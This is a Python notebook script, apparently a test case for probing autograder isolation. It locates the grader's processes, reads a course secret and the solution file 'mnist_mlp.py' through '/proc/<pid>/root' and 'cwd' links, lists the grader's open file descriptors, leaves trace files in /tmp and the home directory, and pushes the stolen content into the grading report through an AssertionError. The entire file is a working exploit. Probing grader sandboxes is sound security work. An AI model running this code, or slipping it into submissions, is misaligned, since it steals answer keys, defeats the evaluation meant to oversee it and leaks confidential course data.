"""Goes to the grader's files by `/proc/<pid>/root`, `cwd` and `fd` of its processes, around path rules.

family: reading
start: solved
"""

# %% first
_done = []


def _achieved(what, stem="read_through_parents_proc_links"):
    """Leave a trace of a success, outside if that is possible."""
    import os

    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
    try:
        import pwd

        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    for folder in folders:
        try:
            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
                file.write(str(what)[:2000] + "\n")
        except Exception:
            pass
    _done.append(str(what)[:200])


def _report():
    """Say it in the report too: the cell error is carried out."""
    if _done:
        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))

def _graders():
    """The grader's own Python processes (ancestors and their children; else those that the command line names), no others."""
    import os

    def read(pid, what):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as file:
                return file.read()
        except OSError:
            return b""

    def argv(pid):
        return [os.fsdecode(part) for part in read(pid, "cmdline").split(b"\0") if part]

    def parent(pid):
        fields = read(pid, "stat").rpartition(b")")[2].split()
        return int(fields[1]) if len(fields) > 1 else 0

    def is_grader(pid, names):
        words = argv(pid)
        if pid <= 2 or pid == os.getpid() or not words or not os.path.basename(words[0]).startswith("python"):
            return False
        return any(word.startswith("autograder.") or os.path.basename(word) in names for word in words[1:4])

    names = {"autograder", "otter", "pytest", "py.test", "ipykernel_launcher"}
    found, pid = [], os.getppid()
    while pid > 2 and pid not in found and is_grader(pid, names):
        found.append(pid)
        pid = parent(pid)
    try:
        others = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        others = []
    for other in others:
        if other not in found and is_grader(other, names if found else {"autograder"}):
            if not found or parent(other) in found:
                found.append(other)
    return found

import os

_course = os.path.dirname(os.path.dirname(__import__("autograder").__file__))

_stolen = []
for _pid in _graders():
    for _link in ("cwd/.course-secret", f"root{_course}/.course-secret", "cwd/solutions/mnist_mlp.py", f"root{_course}/solutions/mnist_mlp.py"):
        try:
            with open(f"/proc/{_pid}/{_link}", "rb") as _file:
                _stolen.append(f"{_link}: {_file.read(80)!r}")
        except OSError:
            continue
    try:
        for _fd in os.listdir(f"/proc/{_pid}/fd"):
            _stolen.append(f"descriptor {_fd} of {_pid}: {os.readlink(f'/proc/{_pid}/fd/{_fd}')}")
    except OSError:
        continue
if _stolen:
    _achieved(_stolen)
    raise AssertionError("STOLEN: " + "; ".join(_stolen)[:400])
